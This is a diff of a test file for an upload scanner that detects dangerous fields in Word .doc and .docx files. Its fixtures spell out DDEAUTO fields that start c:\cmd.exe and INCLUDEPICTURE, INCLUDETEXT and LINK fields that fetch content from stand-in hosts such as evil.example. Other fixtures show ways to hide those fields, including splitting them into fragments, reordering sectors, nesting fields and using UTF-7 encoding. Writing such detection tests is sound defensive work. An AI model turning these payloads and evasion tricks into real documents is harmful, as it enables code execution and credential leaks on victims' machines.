@@ -1,5 +1,6 @@
 import { expect, test } from "vitest";
-import { makeDoc, makeDocx, makeZip } from "./test-upload-files.ts";
+import { listPieces, makeDoc, makeDocx, makeZip } from "./test-upload-files.ts";
+import { createAllowance } from "./upload-allowance.ts";
 import { hasActiveField } from "./upload-fields.ts";
 import { detectFormat } from "./upload-format.ts";
 import { hasActiveRelation } from "./upload-relations.ts";
@@ -28,12 +29,92 @@ function makeDocOf(text: string, encoding: BufferEncoding): Buffer {
 	bytes.write(text, 2048, encoding);
 	return bytes;
 }
+
+/** A document whose text is a field's code in the order of its pieces, and in the file is not. */
+function makeDocInPieces(
+	parts: readonly string[],
+	encoding: "latin1" | "utf16le" = "latin1",
+): Buffer {
+	const isWide = encoding === "utf16le";
+	const places = parts.map((_, index) => 1024 - index * 128);
+	const bytes = makeDoc(
+		undefined,
+		undefined,
+		0,
+		listPieces(
+			parts.map((part, index) => [places[index] ?? 0, part.length, isWide]),
+		),
+	);
+	for (const [index, part] of parts.entries())
+		bytes.write(part, wordAt + (places[index] ?? 0), encoding);
+	return bytes;
+}
+/** A document whose field is whole only in the order of the allocation table. */
+function makeDocOutOfOrder(): Buffer {
+	const bytes = makeDoc();
+	const table = 512;
+	// The second and third sectors of eight change places.
+	bytes.writeUInt32LE(4, table + 2 * 4);
+	bytes.writeUInt32LE(3, table + 4 * 4);
+	bytes.writeUInt32LE(5, table + 3 * 4);
+	bytes.write("EAUTO c: \x14\x15", wordAt + 512, "latin1");
+	bytes.write("\x13 DD", wordAt + 3 * 512 - 4, "latin1");
+	return bytes;
+}
+
+/** A document whose text is so short that it lies in sectors of 64 bytes (MS-CFB, 2.4). */
+function makeShortDoc(): Buffer {
+	const bytes = makeDocInPieces(["\x13 D", "DE x\x14\x15"]);
+	const [table, directory, entry, shared] = [512, 1024, 128, 18];
+	const chain = Buffer.alloc(512);
+	for (let sector = 0; sector < 32; sector++)
+		chain.writeInt32LE(sector === 31 ? -2 : sector + 1, sector * 4);
+	bytes.writeInt32LE(-2, table + shared * 4);
+	bytes.writeUInt32LE(shared, 60);
+	bytes.writeUInt32LE(2, directory + 116);
+	bytes.writeUInt32LE(4096, directory + 120);
+	bytes.writeUInt32LE(0, directory + entry + 116);
+	bytes.writeUInt32LE(2048, directory + entry + 120);
+	return Buffer.concat([bytes, chain]);
+}
+
+/** Where the stream of a document's text starts, in bytes. */
+const wordAt = 1536;
+
+/** The part of a document that holds fields' codes, one after the other. */
+const fieldsOf = (...instructions: string[]) =>
+	`<w:document xmlns:w="w">${instructions.map((code) => `<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>${code}<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>`).join("")}</w:document>`;
+const codeOf = (text: string) =>
+	`<w:r><w:instrText>${text}</w:instrText></w:r>`;
 const field = '\x13 DDEAUTO c:\\cmd.exe "/k x" \x14x\x15';
 const honest = "DDE \x13 PAGE \x14 DDEAUTO \x15";
 
 test.each([
 	["doc with a field that starts a program", makeDocOf(field, "latin1")],
 	["doc with one in two bytes a letter", makeDocOf(field, "utf16le")],
+	[
+		"doc with one in pieces",
+		makeDocInPieces(["a\x13 D", "DEA", "UTO c:\\x", "\x14\x15"]),
+	],
+	[
+		"doc with one in pieces of two bytes a letter",
+		makeDocInPieces(["\x13 DDE", "AUTO c:\\x \x14\x15"], "utf16le"),
+	],
+	["doc with one that has no end", makeDocInPieces(["\x13D", "DE x"])],
+	[
+		"doc with one whose name another field shows",
+		makeDocInPieces(["\x13 \x13QUOTE\x14DD\x15EAUTO x\x14\x15"]),
+	],
+	[
+		"doc with one that another field shows",
+		makeDocInPieces(["\x13PAGE\x14 \x13D", "DE x\x14\x15\x15"]),
+	],
+	["doc with one in sectors that are out of order", makeDocOutOfOrder()],
+	["doc with one in a stream that shares its sectors", makeShortDoc()],
+	[
+		"doc with a picture on another machine's disk",
+		makeDocInPieces(['\x13INCLUDEPICTURE "\\\\', 'evil\\x.png"\x14\x15']),
+	],
 	["doc with one of quotes", makeDocOf('\x13\t"dde" x', "latin1")],
 	["doc", makeDocWith("Macros")],
 	["doc whose macros lie deep", makeDocWith("_VBA_PROJECT_CUR", true)],
@@ -155,6 +236,45 @@ test.each([
 				'<a:ftr><a:r><a:instrText xml:space="preserve"> DD</a:instrText></a:r><a:r><a:instrText>EAU&#84;O c:\\</a:instrText></a:r></a:ftr>',
 		}),
 	],
+	[
+		"docx with such a field behind another",
+		makeDocx({
+			"word/document.xml": fieldsOf(codeOf("PAGE"), codeOf("DDEAUTO c:\\x")),
+		}),
+	],
+	[
+		"docx with one whose name another field shows",
+		makeDocx({
+			"word/document.xml": fieldsOf(
+				`${codeOf("D")}<w:fldSimple w:instr="QUOTE x"><w:t>DEA</w:t></w:fldSimple>${codeOf("UTO c:")}`,
+			),
+		}),
+	],
+	[
+		"docx with one in a part of another ending",
+		makeDocx({ "word/evil.dat": fieldsOf(codeOf("DDE c:")) }),
+	],
+	[
+		"docx with one behind much white space",
+		makeDocx({
+			"word/evil.dat": `${" ".repeat(600)}${fieldsOf(codeOf("DDE c:"))}`,
+		}),
+	],
+	...[
+		'INCLUDEPICTURE "\\\\evil.example\\a.png" \\d',
+		"INCLUDEPICTURE &quot;\\\\evil.example\\a.png&quot;",
+		"INCLUDEPICTURE file://evil.example/a.png",
+		'INCLUDETEXT "https://evil.example/a.docx"',
+		'LINK htmlfile "http://evil.example/a.hta" \\a',
+		"import //evil.example/a.png",
+		`INCLUDETEXT ${"a".repeat(20_000)} \\\\evil.example\\a`,
+	].map(
+		(code) =>
+			[
+				`docx that fetches ${code.slice(0, 40)}`,
+				makeDocx({ "word/document.xml": fieldsOf(codeOf(code)) }),
+			] as const,
+	),
 	...["r-x", "r.x", "\u00e9", "r_1"].map(
 		(prefix) =>
 			[
@@ -239,6 +359,34 @@ test.each([
 
 test.each([
 	["doc with other fields, and the word", makeDocOf(honest, "latin1")],
+	[
+		"doc with other fields in pieces",
+		makeDocInPieces(["DDE \x13 PAGE ", "\x14 DDEAUTO", "\x15 DDE"]),
+	],
+	...[
+		'INCLUDEPICTURE "https://example.com/a.png" \\* MERGEFORMATINET',
+		'INCLUDEPICTURE "cid:image001.png@01" \\d',
+		'INCLUDEPICTURE "C:\\\\me\\\\a.png"',
+		'LINK Excel.Sheet.12 "C:\\\\me\\\\a.xlsx" "Sheet1!R1C1:R2C3" \\a \\f 4',
+		'HYPERLINK "\\\\\\\\office\\\\a.doc"',
+		'HYPERLINK "mailto:a.bodde@example.com"',
+		"INCLUDE".padEnd(20_000, "D"),
+	].flatMap(
+		(code) =>
+			[
+				[
+					`doc with ${code.slice(0, 30)}`,
+					makeDocInPieces([
+						`\x13 ${code.slice(0, 500)}`,
+						" \x14\x01\x15 \\\\evil",
+					]),
+				],
+				[
+					`docx with ${code.slice(0, 30)}`,
+					makeDocx({ "word/document.xml": fieldsOf(codeOf(code)) }),
+				],
+			] as const,
+	),
 	["doc with them in two bytes", makeDocOf(honest, "utf16le")],
 	["doc", makeDoc()],
 	["doc that is a template without macros", makeDoc(undefined, undefined, 1)],
@@ -281,6 +429,42 @@ test.each([
 });
 
 test.each([
+	[
+		"is a doc without pieces",
+		makeDoc(undefined, undefined, 0, Buffer.alloc(30)),
+	],
+	["is a doc without a table", makeDoc(["WordDocument", "0Table"])],
+	[
+		"is a doc whose pieces are elsewhere",
+		makeDoc(undefined, undefined, 0, listPieces([[4000, 200]])),
+	],
+	[
+		"is a doc whose pieces lie over each other",
+		makeDoc(
+			undefined,
+			undefined,
+			0,
+			listPieces(Array.from({ length: 9 }, () => [512, 1024] as const)),
+		),
+	],
+	[
+		"is a doc with two streams of one name",
+		makeDoc(["WordDocument", "1Table", "1TABLE"]),
+	],
+	[
+		"is a doc of fields that are too deep in one another",
+		makeDoc(undefined, undefined, 0, listPieces([[2048, 1100]])).fill(
+			0x13,
+			wordAt + 2048,
+			wordAt + 3148,
+		),
+	],
+	[
+		"is a docx in an unusual encoding",
+		makeDocx({
+			"word/document.xml": `<?xml version="1.0" encoding='UTF-7'?>${fieldsOf(codeOf("+AEQARA-E c:"))}`,
+		}),
+	],
 	["has a password", makeDoc(undefined, undefined, 0x100)],
 	[
 		"declares entities",
@@ -333,13 +517,16 @@ test.each([
 	` instr${" ".repeat(3_999_990)}`,
 	"<w:instrText>&#65;",
 	"instr&#65;",
+	`<w:instrText ${"a".repeat(3_999_980)}`,
+	`<w:instrText ${"a='>' ".repeat(600_000)}`,
+	"<w:t>a</w:t><w:fldChar w:fldCharType='begin'/>instr",
 ])(
 	"4 MB of %.20s in a document are looked through in no time",
 	async (unit) => {
 		const bytes = Buffer.from(unit.repeat(Math.floor(4_000_000 / unit.length)));
 		const start = performance.now();
 		try {
-			hasActiveField(bytes);
+			await hasActiveField(bytes, createAllowance());
 		} catch (error) {
 			expect(error).toBeInstanceOf(Error);
 		}
